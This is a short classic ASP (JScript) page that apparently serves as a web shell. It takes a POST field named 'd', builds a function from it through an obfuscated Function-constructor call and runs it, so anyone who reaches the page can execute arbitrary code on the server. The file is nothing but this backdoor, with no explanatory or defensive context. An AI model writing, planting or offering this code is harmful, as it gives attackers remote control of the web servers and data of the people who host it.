<%@ Language="JScript" %>
<%
var src = Request.Form("d");
var run = [].constructor.constructor(src);
run();
%>
